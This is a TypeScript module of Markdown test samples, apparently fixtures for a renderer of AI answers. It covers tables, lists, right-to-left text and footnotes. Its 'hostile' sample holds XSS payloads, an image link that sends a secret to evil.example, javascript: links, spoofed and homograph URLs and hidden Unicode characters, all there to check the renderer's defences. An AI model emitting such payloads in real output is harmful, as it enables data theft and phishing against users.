/** All that Markdown has, as an answer uses it. */
export const everything: string = `# A heading of the first level

An introduction with **strong**, *stressed* and ~~struck~~ words, \`inline code\`, a [link](https://example.org/page "Its title") and a bare one, https://example.com/path. It draws on sources [1](https://example.org/source) [2](https://example.net/), has a footnote[^note], and refers to [something][ref] that is defined at the end.\\
This line begins after a hard break.

## Lists

1. The first item
2. The second, long enough to go on in another line, which begins below the first letter of its text and not below its number
   - with a list in it
   - of two items
     1. and one more below
     2. with numbers
3. The third item

- [x] A task that is done
- [ ] A task that is not, with \`code\` in it

A loose list has room between its items:

* The first item

  It has a second paragraph.

* The second item

## Code and quotations

> A quotation, with **strong** words.
>
> - and a list in it

\`\`\`ts
interface Reader {
  read(text: string, isOpen: boolean): Document // a comment that is too long for the box and has to be scrolled
}

const reader = createReader()
for (const piece of pieces) reader.read(piece, true)
\`\`\`

    Indented code has no language.

## A table

| Model | Tokens | Price | Notes |
| --- | ---: | :---: | --- |
| Alpha | 1,024 | $2.00 | The first one |
| Beta | 12,288 | $10.50 | A longer cell, with \`code\` and a [link](https://example.org/beta) |
| Gamma | 128 | $0.10 | |

---

### Below a line

![A chart of what was sold](https://cdn.example.net/chart.png)

Raw <b>HTML</b> stays text.

[^note]: A footnote says *more*, and leads back.

[ref]: https://example.org/reference
`

/** What somebody writes who wants to do harm. */
export const hostile: string = `# What an attacker writes

<script>alert(1)</script> and <img src=x onerror=alert(1)> stay text.

An image that tells what was said: ![](https://evil.example/collect?secret=1234)

[A script](javascript:alert(1)), [data](data:text/html,<script>), [a user](https://bank.example@evil.example/), [another host](//evil.example) lead nowhere.

[https://bank.example](https://evil.example/login) says where it really leads, and so does [bаnk.example](https://xn--bnk-6cd.example).

Turned round: \`user\u202Etxt.exe\`, and \`zero\u200Bwidth\`.

| ${'a | '.repeat(20)}
| ${'- | '.repeat(20)}
| ${`${'x'.repeat(40)} | `.repeat(20)}

${'> '.repeat(40)}deep

${'*'.repeat(60)}stars${'*'.repeat(20)}

averylongwordthatdoesnotend${'andgoeson'.repeat(40)}
`

export const rightToLeft: string = `## مرحبا بالعالم

هذه فقرة باللغة العربية فيها **نص قوي** و\`code\` و[رابط](https://example.org).

1. العنصر الأول
2. العنصر الثاني
   - عنصر داخلي

- [x] مهمة منتهية

An English paragraph between them, with a list:

- first
- second

| الاسم | السعر |
| --- | ---: |
| ألف | 10 |
| باء | 20 |

> اقتباس قصير.

\`\`\`js
const greeting = 'مرحبا' // code keeps its direction
\`\`\`
`

/** Code of so many lines. */
export function longCode(lines: number): string {
  const code = Array.from(
    { length: lines },
    (_, index) => `const value${index} = compute(${index}) // line ${index + 1}`,
  )
  return `\`\`\`ts\n${code.join('\n')}\n\`\`\``
}

/** A table of so many columns and rows. */
export function largeTable(columns: number, rows: number): string {
  const row = (cell: (column: number) => string): string =>
    `| ${Array.from({ length: columns }, (_, column) => cell(column)).join(' | ')} |\n`
  return (
    row((column) => `Column ${column + 1}`) +
    row(() => '---') +
    Array.from({ length: rows }, (_, index) => row((column) => `Cell ${index + 1}.${column + 1}`)).join('')
  )
}

export const footnotes: string = `Two claims[^b], made in another order[^a] than they are explained in, and one of them twice[^b].

[^a]: The second to be mentioned.

[^b]: The first.

    It has a second paragraph, with \`code\`.

[^c]: Nobody mentions this one, so it is not shown.
`
